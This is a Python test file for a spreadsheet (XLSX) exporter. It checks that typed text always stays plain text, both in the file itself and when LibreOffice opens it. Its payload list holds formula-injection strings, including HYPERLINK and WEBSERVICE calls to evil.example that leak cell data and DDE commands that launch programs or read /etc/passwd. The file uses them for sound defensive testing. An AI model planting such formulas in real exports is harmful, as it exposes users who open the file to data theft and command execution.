"""Every cell of an export is text: nothing that anybody types becomes a formula, a number or a link, in LibreOffice too."""

import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest

from siweb.core import xlsx
from tests.conftest import SOFFICE
from tests.support.sheets import cells_of, kinds_of

PAYLOADS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1, "Open")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # full width
    " =1+1",
    "'=1+1",
    '"=1+1"',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("soffice";"/etc/passwd";"1")',
    "{=1+1}",
    "=1+1;=2+2",
    "https://evil.example/",
    "_x003D_1+1",  # Excel's way to write a letter by its number
]
KEPT = [
    "+441614960000",
    "0161 496 0000",
    "007",
    "1e5",
    "12345678901234567890",
    "2026-11-25",
    "1/2",
    "TRUE",
    "#N/A",
    "_x000D_",
    "a & b < c > d \" e ' f",
    "  blanks  around  ",
    "two\nlines",
    "Zoë 李 ‏עברית‎ 🦴",
    "]]>",
    "<t>x</t>",
]
TEXTS = PAYLOADS + KEPT


def workbook(rows):
    return b"".join(xlsx.workbook("Enquiries", [("Text", 20)], [[[text] for text in rows]]))


def test_all_are_text_in_the_file_and_nothing_in_it_acts():
    assert kinds_of(workbook(TEXTS)) == ({"inlineStr"}, [])


def test_what_is_typed_is_what_is_there():
    texts = [text for text in TEXTS if "_x" not in text]
    as_xml_reads = [[text.replace("\r", "\n")] for text in texts]
    assert cells_of(workbook(texts))[1:] == as_xml_reads


def test_what_looks_like_the_code_of_a_letter_is_written_so_that_it_is_read_as_typed():
    assert xlsx.cell_text("_x000D_ _x_ _xyz") == "_x005F_x000D_ _x_ _xyz"


@pytest.mark.parametrize("letter", ["\x00", "\x01", "\x08", "\x0b", "\x1f", "\ufffe", "\uffff", "\ud800"])
def test_what_xml_cannot_carry_is_left_out(letter):
    assert cells_of(workbook([f"a{letter}b"]))[1] == ["ab"]


@pytest.mark.parametrize("letter", ["w", "🦴", "_x0041_"])
def test_what_is_too_long_for_a_cell_is_cut_and_says_so(letter):
    text = xlsx.cell_text(letter * 40_000)
    assert text.endswith("(cut here: a cell holds no more)")
    assert text.replace("_x005F_", "_").startswith(letter * 100)
    assert len(text.replace("_x005F_", "_").encode("utf-16-le")) // 2 <= xlsx.MOST_LETTERS


def test_what_just_fits_is_not_cut():
    assert xlsx.cell_text("w" * xlsx.MOST_LETTERS) == "w" * xlsx.MOST_LETTERS


def test_a_workbook_without_rows_is_one_with_headings():
    assert cells_of(b"".join(xlsx.workbook("Enquiries", [("Text", 20)], []))) == [["Text"]]


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """[(type, formula, text, links)] of the cells as LibreOffice has them."""
    folder = tmp_path_factory.mktemp("office")
    (folder / "export.xlsx").write_bytes(workbook(TEXTS))
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [SOFFICE or "soffice", profile, "--headless", "--convert-to", "fods", "--outdir", folder]
    subprocess.run([*command, folder / "export.xlsx"], check=True, capture_output=True, timeout=120)
    rows = list(ET.parse(folder / "export.fods").getroot().iter(f"{TABLE}table-row"))
    shutil.rmtree(folder)
    return [_cell(row.find(f"{TABLE}table-cell")) for row in rows[1 : len(TEXTS) + 1]]


OFFICE, TABLE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text"))


def _cell(cell):
    lines = ["".join(_words(line)) for line in cell.iter(f"{TEXT}p")]
    return (
        cell.get(f"{OFFICE}value-type"),
        cell.get(f"{TABLE}formula"),
        "\n".join(lines),
        len(list(cell.iter(f"{TEXT}a"))),
    )


def _words(element):
    """The text of a line: ODF writes several blanks as one element, and a tab as another."""
    yield element.text or ""
    for child in element:
        blanks = " " * int(child.get(f"{TEXT}c", "1")) if child.tag == f"{TEXT}s" else ""
        yield blanks or ("\t" if child.tag == f"{TEXT}tab" else "".join(_words(child)))
        yield child.tail or ""


@pytest.mark.office
def test_in_libreoffice_every_cell_is_text_as_it_was_typed(opened):
    as_xml_reads = [text.replace("\r", "\n") for text in TEXTS]
    assert opened == [("string", None, text, 0) for text in as_xml_reads]
